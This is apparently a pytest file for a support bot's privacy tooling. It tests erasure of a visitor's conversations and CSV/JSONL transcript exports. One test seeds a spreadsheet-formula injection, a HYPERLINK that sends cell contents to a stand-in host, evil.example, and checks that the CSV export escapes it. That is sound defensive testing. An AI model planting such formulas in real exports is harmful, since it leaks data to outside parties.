"""A visitor's data erased (bot/desk/erasure.py) and conversations exported (bot/desk/export.py) on a real store
(tests/unit/test_privacy.py on SQLite, tests/e2e/test_privacy.py on PostgreSQL)."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from sqlalchemy import func, select

from bot.desk.desk import DeskError
from bot.desk.erasure import erase
from bot.desk.export import ExportFormat, lines, transcripts
from bot.infra.store import (
    Agent,
    Conversation,
    Correction,
    Erasure,
    Message,
    Note,
    OwnershipFailure,
    make_engine,
    make_sessionmaker,
)

SECRET = "my card number ends 4242 and I live at 12 Elm St"


def conversation(db, *, customer_id=None, email=None, text=SECRET) -> str:
    row = Conversation(token_hash="x" * 64, slots={}, status="with_agent", customer_id=customer_id,
                       customer_email=email)
    db.add(row)
    db.flush()
    user = Message(conversation_id=row.id, role="user", text=text, intent="payment_problem", confidence=0.4)
    db.add_all([user, Message(conversation_id=row.id, role="bot", text="Let me pass you to a person.",
                              feedback="down"),
                Note(conversation_id=row.id, agent_id=1, text="VIP, called twice"),
                OwnershipFailure(conversation_id=row.id, order_id="NW000001")])
    db.flush()
    db.add(Correction(message_id=user.id, text=text, intent="payment_problem", agent_id=1))
    return row.id


class PrivacyCases:
    @pytest.fixture
    def sessions(self, db_url):
        engine = make_engine(db_url)
        sessions = make_sessionmaker(engine)
        with sessions.begin() as db:
            db.add(Agent(id=1, username="ada", display_name="Ada", password_hash="-", role="admin"))
        yield sessions
        engine.dispose()

    def test_erasing_a_conversation_leaves_no_trace_of_it_and_keeps_the_others(self, sessions):
        with sessions.begin() as db:
            gone = conversation(db)
            kept = conversation(db, text="where is my order")
        with sessions.begin() as db:
            done = erase(db, 1, conversation_id=gone)
        assert (done.conversations, done.messages, done.notes, done.corrections, done.visitor_texts) == (1, 2, 1, 1, 1)
        with sessions() as db:
            assert db.get(Conversation, gone) is None and db.get(Conversation, kept) is not None
            for table, column in ((Message, Message.conversation_id), (Note, Note.conversation_id),
                                  (OwnershipFailure, OwnershipFailure.conversation_id)):
                assert db.scalar(select(func.count()).select_from(table).where(column == gone)) == 0
                assert db.scalar(select(func.count()).select_from(table).where(column == kept)) > 0
            assert [c.text for c in db.scalars(select(Correction))] == ["where is my order"]
            record = db.scalars(select(Erasure)).one()
        stored = json.dumps([record.conversations, record.messages, record.digests])
        assert SECRET not in stored and gone not in stored
        assert hashlib.sha256(SECRET.encode()).hexdigest() in record.digests

    def test_a_verified_customers_conversations_go_by_their_id_or_email(self, sessions):
        with sessions.begin() as db:
            conversation(db, customer_id="c-7", email="Jane@Example.com")
            conversation(db, customer_id="c-7", email="Jane@Example.com", text="second visit")
            conversation(db, customer_id="c-8", email="other@example.com")
        with sessions.begin() as db:
            assert erase(db, 1, email="jane@example.COM").conversations == 2
        with sessions.begin() as db, pytest.raises(DeskError) as none_left:
            erase(db, 1, customer_id="c-7")
        assert none_left.value.status == 404
        with sessions() as db:
            assert db.scalars(select(Conversation.customer_id)).all() == ["c-8"]

    def test_an_erasure_names_exactly_one_visitor(self, sessions):
        with sessions.begin() as db:
            only = conversation(db, customer_id="c-9")
        for given in ({}, {"conversation_id": only, "customer_id": "c-9"}):
            with sessions.begin() as db, pytest.raises(DeskError) as refused:
                erase(db, 1, **given)
            assert refused.value.status == 422
        with sessions() as db:
            assert db.get(Conversation, only) is not None

    def test_an_export_has_every_matching_conversation_in_both_formats(self, sessions):
        with sessions.begin() as db:
            ids = {conversation(db, text=f"question {i}") for i in range(3)}
        found = list(transcripts(sessions, {"status": None}, 0.5))
        assert {t.id for t in found} == ids
        records = [json.loads(line) for line in lines(iter(found), ExportFormat.JSONL)]
        assert {r["id"] for r in records} == ids and all(r["notes"][0]["text"] == "VIP, called twice" for r in records)
        rows = list(csv.DictReader(io.StringIO("".join(lines(iter(found), ExportFormat.CSV)))))
        assert len(rows) == 3 * 3  # two messages and a note each
        assert {r["text"] for r in rows if r["role"] == "user"} == {"question 0", "question 1", "question 2"}
        assert {r["corrected_intent"] for r in rows if r["role"] == "user"} == {"payment_problem"}

    def test_an_address_a_visitor_left_finds_their_conversation(self, sessions):
        with sessions.begin() as db:
            left = conversation(db)
            db.get_one(Conversation, left).slots = {"contact_email": "Anon@Example.org", "offline": True}
            conversation(db)
        with sessions.begin() as db:
            assert erase(db, 1, email=" anon@example.ORG ").conversations == 1
        with sessions() as db:
            assert db.get(Conversation, left) is None

    def test_a_visitors_formula_is_plain_text_in_the_csv(self, sessions):
        with sessions.begin() as db:
            conversation(db, text='=HYPERLINK("http://evil.example/?"&A1,"click")')
        found = list(transcripts(sessions, {"status": None}, 0.5))
        rows = list(csv.DictReader(io.StringIO("".join(lines(iter(found), ExportFormat.CSV)))))
        assert [r["text"] for r in rows if r["role"] == "user"] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")']
